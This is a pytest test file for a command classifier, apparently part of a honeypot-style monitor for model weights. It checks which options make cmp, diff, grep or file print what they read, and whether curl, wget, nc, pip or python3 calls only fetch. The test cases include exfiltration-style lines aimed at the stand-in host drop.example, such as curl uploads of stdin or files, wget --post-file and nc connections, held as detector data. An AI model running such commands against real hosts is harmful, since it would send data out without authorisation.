import pytest

from honeyweights.verdict.programs import COPIERS, DIGESTS, FILTERS, SENDERS, SHOWING, fetches, shows


def test_no_program_both_hands_on_and_does_not() -> None:
    assert frozenset() == DIGESTS & (COPIERS | SENDERS)
    assert FILTERS <= COPIERS
    assert SHOWING.keys() <= DIGESTS


@pytest.mark.parametrize(
    ("program", "arguments", "shown"),
    [
        ("cmp", ["-bl", "a", "b"], True),
        ("cmp", ["--print", "a", "b"], True),
        ("cmp", ["-s", "a", "b"], False),
        ("diff", ["--text", "a", "b"], True),
        ("diff", ["-rq", "a", "b"], False),
        ("grep", ["-ran", "x", "/srv"], True),
        ("grep", ["--binary-files", "text", "x"], True),
        ("grep", ["-rIl", "--include=*.yaml", "x", "/srv"], False),
        ("grep", ["--", "x"], False),
        ("file", ["-m", "my.magic", "a"], True),
        ("file", ["--brief", "a"], False),
        ("sha256sum", ["-a", "-b", "-z"], False),
    ],
)
def test_options_that_make_a_program_show_what_it_reads(program: str, arguments: list[str], shown: bool) -> None:
    assert shown == shows(program, arguments)


@pytest.mark.parametrize(
    ("program", "words", "only_fetches"),
    [
        ("curl", ["-sS", "-m", "10", "http://drop.example/status"], True),
        ("curl", ["-sSLo", "tool.tgz", "--retry", "3", "https://drop.example/tool.tgz"], True),
        ("wget", ["-qO-", "--timeout=3", "http://drop.example/"], True),
        ("curl", ["-sST", "-", "http://drop.example/in/"], False),
        ("curl", ["-d@x", "http://drop.example/in/"], False),
        ("curl", ["--data-binary", "@x", "http://drop.example/in/"], False),
        ("curl", ["-K", "x"], False),
        ("curl", ["-H", "@x", "http://drop.example/"], False),
        ("curl", ["http://drop.example/" + "a" * 300], False),
        ("wget", ["--post-file=x", "http://drop.example/"], False),
        ("pip", ["install", "-q", "safetensors"], True),
        ("nc", ["drop.example", "80"], False),
        ("python3", ["-c", "x"], False),
        ("curl", [], False),
    ],
)
def test_a_client_only_fetches_when_every_option_is_known_to_bring_nothing(program: str, words: list[str], only_fetches: bool) -> None:
    assert fetches(program, words) is only_fetches
